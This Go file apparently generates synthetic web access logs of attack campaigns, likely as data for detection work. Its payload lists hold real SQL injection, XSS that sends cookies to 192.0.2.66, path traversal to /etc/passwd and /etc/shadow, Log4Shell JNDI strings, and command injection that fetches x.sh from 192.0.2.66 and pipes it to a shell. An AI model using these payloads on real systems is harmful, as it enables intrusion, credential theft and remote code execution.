package main

import (
	"bufio"
	"fmt"
	"strings"
)

// A campaign is what one attacker does, step after step.
type campaign struct {
	client, kind, step int
}

// attacks give the request of a campaign's nth step, the answer's status and size, and the tool's user agent ("" for a browser's).
var attacks = []func(s *site, n int) (request string, status, size int, agent string){
	func(s *site, n int) (string, int, int, string) { // SQL injection by hand and by tool, encoded in several ways
		payload := pick(s.r, []string{
			"1%27%20UNION%20SELECT%20NULL,username,password%20FROM%20users--%20-", "1+AND+1=1", "1'+OR+'1'='1", "-1%2527%2520union%2520select%25201,2,3--%2520-",
			"1%20AND%20SLEEP(5)", "1;WAITFOR+DELAY+'0:0:5'--", "1/**/UNION/**/ALL/**/SELECT/**/1,concat(0x71,user(),0x71),3", "1%27%20AND%20extractvalue(1,concat(0x7e,version()))%23",
		})
		return fmt.Sprintf("GET /shop/item?id=%d%s HTTP/1.1", n, payload), pick(s.r, []int{200, 200, 500, 403}), 400 + s.r.IntN(20_000), "sqlmap/1.8.11#stable (https://sqlmap.org)"
	},
	func(s *site, n int) (string, int, int, string) { // cross-site scripting
		payload := pick(s.r, []string{
			"%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E", "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "%3Csvg%2Fonload%3Dfetch(%27%2F%2F192.0.2.66%2F%27%2Bdocument.cookie)%3E",
			"javascript%3Aalert(1)", "%26lt%3Bscript%26gt%3Balert(1)", "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
		})
		return "GET /search?q=" + payload + " HTTP/1.1", 200, 5_000 + s.r.IntN(500), ""
	},
	func(s *site, n int) (string, int, int, string) { // path traversal
		path := pick(s.r, []string{
			"/download?file=../../../../etc/passwd", "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd", "/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow", "/download?file=....//....//etc/hosts",
			"/assets/..%252f..%252f..%252fproc/self/environ", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/download?file=php://filter/convert.base64-encode/resource=index.php",
		})
		return "GET " + path + " HTTP/1.1", pick(s.r, []int{400, 404, 403, 200}), 150 + s.r.IntN(2_000), "curl/8.5.0"
	},
	func(s *site, n int) (string, int, int, string) { // looking for files that should not be public
		path := pick(s.r, []string{
			"/.env", "/.git/config", "/.git/HEAD", "/wp-config.php.bak", "/backup.zip", "/db.sql", "/.aws/credentials", "/config.json", "/server-status", "/phpinfo.php", "/.DS_Store", "/actuator/env",
			"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/.svn/entries", "/.vscode/sftp.json", "/api/.env", "/admin/.env", "/id_rsa",
		})
		return "GET " + path + " HTTP/1.1", 404, 1_234, "Mozilla/5.0 (compatible; probe)"
	},
	func(s *site, n int) (string, int, int, string) { // guessing a WordPress password
		return "POST /wp-login.php HTTP/1.1", 200, 7_480 + s.r.IntN(8), ""
	},
	func(s *site, n int) (string, int, int, string) { // guessing directories
		return fmt.Sprintf("GET /%s%s HTTP/1.1", pick(s.r, words), pick(s.r, []string{"/", ".php", ".bak", ".old", "_admin/", "-test/"})), 404, 1_234, "gobuster/3.6"
	},
	func(s *site, n int) (string, int, int, string) { // Log4Shell
		return "GET /?x=" + pick(s.r, []string{"${jndi:ldap://192.0.2.66:1389/a}", "$%7B$%7Blower:j%7Dndi:ldap://192.0.2.66/a%7D", "${${::-j}${::-n}${::-d}${::-i}:rmi://192.0.2.66/a}"}) + " HTTP/1.1", 200, 9_100, "${jndi:ldap://192.0.2.66:1389/ua}"
	},
	func(s *site, n int) (string, int, int, string) { // command injection
		payload := pick(s.r, []string{"127.0.0.1;cat%20/etc/passwd", "%7Cid", "$(whoami)", "%60wget%20http://192.0.2.66/x.sh%20-O-%7Csh%60", "127.0.0.1%0Acurl%20192.0.2.66/x|bash", ";c''at${IFS}/etc/passwd"})
		return "GET /tools/ping?host=" + payload + " HTTP/1.1", pick(s.r, []int{200, 400, 500}), 900 + s.r.IntN(300), ""
	},
	func(s *site, n int) (string, int, int, string) { // walking through other people's objects
		return fmt.Sprintf("GET /api/v1/users/%d/orders HTTP/1.1", 10_000+n), 403, 58, "python-requests/2.32.3"
	},
	func(s *site, n int) (string, int, int, string) { // guessing a login
		return "POST /login HTTP/1.1", 401, 812, "python-httpx/0.27.0"
	},
	func(s *site, n int) (string, int, int, string) { // shells that others may have left
		return "GET /" + pick(s.r, []string{"wp-content/uploads/", "", "images/", "tmp/"}) + pick(s.r, []string{"shell.php", "c99.php", "wso.php", "alfa.php", "cmd.jsp"}) + "?cmd=id HTTP/1.1", 404, 1_234, ""
	},
	func(s *site, n int) (string, int, int, string) { // a scanner of known holes
		path := pick(s.r, []string{"/cgi-bin/luci/;stok=/locale", "/boaform/admin/formLogin", "/HNAP1/", "/solr/admin/info/system", "/manager/html", "/owa/auth/x.js", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "/struts2-showcase/index.action"})
		return "GET " + path + " HTTP/1.1", 404, 1_234, pick(s.r, []string{"Mozilla/5.0 zgrab/0.x", "masscan/1.3", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"})
	},
}

func (s *site) attack(out *bufio.Writer, now int64, c *campaign) error {
	request, status, size, agent := attacks[c.kind](s, c.step)
	c.step++
	if agent == "" {
		agent = s.agents[c.client%len(s.agents)]
	}
	return s.put(out, now, c.client, "-", strings.ReplaceAll(request, `"`, `\x22`), status, size, "-", agent)
}
